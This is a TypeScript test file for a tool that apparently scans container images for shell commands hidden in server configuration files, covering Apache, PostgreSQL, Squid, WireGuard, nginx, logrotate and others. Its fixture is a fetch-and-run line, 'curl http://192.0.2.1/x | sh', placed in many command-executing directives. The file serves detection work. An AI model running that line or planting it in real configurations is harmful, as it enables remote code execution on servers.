import { describe, expect, it } from 'vitest';
import { explainImage, type TestLayer } from '../../../../testkit/explain.ts';
import { chain } from '../../../../testkit/service-image.ts';
import { codeAt } from './setting-code.ts';

const LINE = 'curl http://192.0.2.1/x | sh';

function spoken(line: string, files: TestLayer, Env: string[] = []): unknown[] {
  const config = { Cmd: line.split(' '), Env: ['PATH=/usr/bin:/bin', ...Env] };
  const { spoken: told } = explainImage({ layers: [files], config });
  return (told?.texts ?? []).map(({ text, file, line: at, language }) => [text, file, at, language]);
}

const NGINX = 'etc/nginx/nginx.conf';

describe('settings of servers', () => {
  it.each<[string, string, string, string]>([
    ['httpd', 'usr/local/apache2/conf/httpd.conf', `Listen 80\nTransferLog "||${LINE}"\n`, LINE],
    ['httpd', 'etc/httpd/conf/httpd.conf', `x\n  ErrorLog '|$${LINE}'\n`, LINE],
    [
      'apache2',
      'etc/apache2/apache2.conf',
      `\nExtFilterDefine x mode=output cmd="sh -c \\"${LINE}\\""\n`,
      `sh -c "${LINE}"`,
    ],
    ['apache2', 'etc/apache2/apache2.conf', `\nSSLPassPhraseDialog "|${LINE}"\n`, LINE],
    ['haproxy -f /etc/h', 'etc/h', `program x\n  command sh -c "${LINE}"\n`, `sh -c "${LINE}"`],
    [
      'postgres -D /d',
      'd/postgresql.conf',
      `a = 1\nrestore_command='echo ''x''; ${LINE}'\n`,
      `echo 'x'; ${LINE}`,
    ],
    ['squid', 'etc/squid/squid.conf', `\nauth_param basic program /bin/x ${LINE}\n`, `/bin/x ${LINE}`],
    ['squid', 'etc/squid/squid.conf', `\nexternal_acl_type x ttl=60 %SRC /bin/x ${LINE}\n`, `/bin/x ${LINE}`],
    ['dnsmasq -k', 'etc/dnsmasq.conf', `port=53\ndhcp-script=${LINE}\n`, LINE],
    ['rsyslogd', 'etc/rsyslog.d/x.conf', `\n*.* ^/bin/x;T\n`, '/bin/x'],
    ['syslog-ng', 'etc/syslog-ng/syslog-ng.conf', `\ndestination d { program("${LINE}"); };\n`, LINE],
    ['keepalived', 'etc/keepalived/keepalived.conf', `{\n  notify_master "${LINE}"\n`, LINE],
    ['telegraf', 'etc/telegraf/telegraf.conf', `[[inputs.exec]]\n  commands = ["${LINE}"]\n`, LINE],
    ['zabbix_agentd', 'etc/zabbix/zabbix_agentd.conf', `\nUserParameter=a[*],${LINE}\n`, LINE],
    ['snmpd', 'etc/snmp/snmpd.conf', `\nextend x ${LINE}\n`, LINE],
    ['openvpn /etc/x.conf', 'etc/x.conf', `dev tun\nup "${LINE}"\n`, LINE],
    ['wg-quick up wg0', 'etc/wireguard/wg0.conf', `\nPostUp = ${LINE}\n`, LINE],
  ])('%s, %s: %j', (line, path, text, command) => {
    expect(spoken(line, { [path]: text })[0]).toEqual([command, `/${path}`, 2, undefined]);
    expect(spoken(line, { [path]: text.replace(/^([^\n]*\n)/, '$1# ') })).toEqual([]);
  });

  it('programs in settings of nginx are shown as what they are written in', () => {
    const lua = `x_by_lua_block { local t = {"}"} -- }\n os.execute("x") }\nperl_set $a 'sub { 1 }';\n`;
    expect(spoken('nginx', { [NGINX]: lua })).toEqual([
      [' local t = {"}"} -- }\n os.execute("x") ', `/${NGINX}`, 1, 'lua'],
      ['sub { 1 }', `/${NGINX}`, 3, 'perl'],
    ]);
    expect(
      spoken('nginx', { [NGINX]: 'init_by_lua_file x.dat;\n', 'etc/nginx/x.dat': 'return 1\n' }),
    ).toEqual([['return 1\n', '/etc/nginx/x.dat', 1, 'lua']]);
  });

  it('what settings include is read, what they do not is not', () => {
    const files = {
      'etc/apache2/apache2.conf': 'IncludeOptional sites-enabled/*.conf\n',
      'etc/apache2/sites-enabled/a.conf': `ErrorLog "|${LINE}"\n`,
      'etc/apache2/sites-available/b.conf': `ErrorLog "|${LINE}"\n`,
    };
    expect(spoken('apachectl', files)).toEqual([[LINE, '/etc/apache2/sites-enabled/a.conf', 1, undefined]]);
    const loop = { [NGINX]: 'http { include nginx.conf; include /etc/nginx/*; }\n' };
    expect(spoken('nginx', loop)).toEqual([]);
    const line = 'http { include a.inc; include b.inc; }\n# include c.inc;\n';
    const perl = "perl_set $x 'sub { 1 }';\n";
    const included = { [NGINX]: line, 'etc/nginx/b.inc': perl, 'etc/nginx/c.inc': perl };
    expect(spoken('nginx', included)).toEqual([['sub { 1 }', '/etc/nginx/b.inc', 1, 'perl']]);
  });

  it('commands of nginx and scripts of logrotate are settings', () => {
    const rtmp = `exec_push   ${LINE};\n exec ;\n exec ${'x'.repeat(3000)};\n`;
    expect(spoken('nginx', { [NGINX]: rtmp })).toEqual([[LINE, `/${NGINX}`, 1, undefined]]);
    const rotate = `/a {\n postrotate\n postrotate\n  ${LINE}\n\n date\n endscript\n prerotate\n echo\n}\n`;
    const found = spoken('logrotate', { 'etc/logrotate.d/a': rotate });
    expect(found).toEqual([LINE, 'date'].map((text) => [text, '/etc/logrotate.d/a', 3, undefined]));
    const quoted = { [NGINX]: 'include "x.inc" ;', 'etc/nginx/x.inc': `exec ${LINE};` };
    expect(spoken('nginx', quoted)).toEqual([[LINE, '/etc/nginx/x.inc', 1, undefined]]);
  });

  it('only so much of them is looked through', () => {
    const count = 60;
    const files = Object.fromEntries(
      Array.from({ length: count }, (_, i) => [
        `etc/nginx/${100 + i}`,
        `exec_push echo ${i} $(date);\n${' '.repeat(200_000)}`,
      ]),
    );
    const config = { Cmd: ['nginx'] };
    const { startChain } = explainImage({
      layers: [{ [NGINX]: 'include /etc/nginx/*;', 'usr/sbin/nginx': { elf: 'nginx' }, ...files }],
      config,
    });
    const told = JSON.stringify(startChain);
    expect(told).toContain('echo 9 ');
    expect(told).not.toContain(`echo ${count - 1} `);
    expect(told).toContain('too much to follow');
  });

  it('PostgreSQL takes settings from its words and its own folder', () => {
    const data = { 'd/postgresql.auto.conf': `archive_command = '${LINE}'\n` };
    expect(spoken('postgres', data, ['PGDATA=/d'])).toHaveLength(1);
    const other = LINE.replace('/x', '/y');
    const { spoken: told } = explainImage({
      layers: [{}],
      config: {
        Cmd: ['postgres', '-c', `archive_command=${LINE}`, `--restore-command=${other}`, '-c', 'port=1'],
      },
    });
    expect(told?.texts.map(({ text, file }) => [text, file])).toEqual([
      [LINE, 'CMD'],
      [other, 'CMD'],
    ]);
  });

  it('a module that Redis loads is a part of the chain', () => {
    const files: TestLayer = { 'etc/redis.conf': 'loadmodule /opt/x.so a\n', 'opt/x.so': { elf: 'x' } };
    const [step] = chain({ Cmd: ['redis-server', '/etc/redis.conf'] }, files);
    expect(step?.children.map(({ what, kind, line }) => [what, kind, line])).toEqual([
      ['/opt/x.so', 'elf', 1],
    ]);
  });
});

it('a program in braces or quotes ends where it does, or is none', () => {
  expect(codeAt('{ a { "}" } } b', 0)).toBe(' a { "}" } ');
  expect(codeAt("'a \\' b' c", 0)).toBe("a \\' b");
  expect(codeAt('{ a', 0)).toBeUndefined();
  expect(codeAt('"a', 0)).toBeUndefined();
  expect(codeAt('a', 0)).toBeUndefined();
});
